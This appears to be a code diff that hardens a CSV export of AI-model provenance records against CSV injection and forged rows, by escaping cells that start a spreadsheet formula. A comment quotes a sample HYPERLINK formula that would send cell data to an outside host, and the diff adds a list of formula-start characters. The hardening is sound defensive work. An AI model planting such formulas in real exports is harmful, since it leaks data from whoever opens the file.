@@ -150,27 +150,47 @@ def as_json_lines(rows: Iterable[Mapping[str, Any]]) -> str:
 
 
 def as_csv(rows: Iterable[Mapping[str, Any]]) -> str:
-    """A CSV with a header row (`CSV_COLUMNS`); lists are joined with `;`."""
+    """A CSV with a header row (`CSV_COLUMNS`); lists are joined with `;`; a cell a spreadsheet would
+    evaluate is written as text (`spreadsheet_text`)."""
     out = io.StringIO()
-    writer = csv.writer(out, lineterminator="\n")
+    # RFC 4180's CRLF: the writer quotes a field holding a character of its line terminator, so with "\n"
+    # alone a bare "\r" in a model name went out unquoted and every spreadsheet read a forged row there.
+    writer = csv.writer(out, lineterminator="\r\n")
     writer.writerow(CSV_COLUMNS)
     for row in rows:
         writer.writerow(
-            [
-                row["asset_sha256"],
-                row["event_id"],
-                row["source"],
-                row["published"]["sha256"] or "",
-                row["published"]["uri"] or "",
-                row["model"]["provider"] or "",
-                row["model"]["name"] or "",
-                row["model"]["version"] or "",
-                ";".join(row["training_data_sources"]),
-                row["manifest"]["label"] or "",
-                row["manifest"]["signer"] or "",
-                "yes" if row["ai_marked"] else "no",
-                row["policy"].get("version", ""),
-                row["decided_at"],
-            ]
+            map(
+                spreadsheet_text,
+                [
+                    row["asset_sha256"],
+                    row["event_id"],
+                    row["source"],
+                    row["published"]["sha256"] or "",
+                    row["published"]["uri"] or "",
+                    row["model"]["provider"] or "",
+                    row["model"]["name"] or "",
+                    row["model"]["version"] or "",
+                    ";".join(row["training_data_sources"]),
+                    row["manifest"]["label"] or "",
+                    row["manifest"]["signer"] or "",
+                    "yes" if row["ai_marked"] else "no",
+                    row["policy"].get("version", ""),
+                    row["decided_at"],
+                ],
+            )
         )
     return out.getvalue()
+
+
+# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets (OWASP "CSV
+# injection"): '=HYPERLINK("https://…?"&A2, "model")' as a declared model name would run when the auditor
+# opens the inventory. The model, its provider and version and the training-data sources are the producer's
+# free text, and an approved-model list is optional.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(cell: object) -> str:
+    """`cell` as a CSV cell no spreadsheet evaluates: one that would start a formula gets a leading `'`
+    (OWASP's advice; the cell then reads as text)."""
+    text = str(cell)
+    return "'" + text if text.startswith(_FORMULA_STARTS) else text
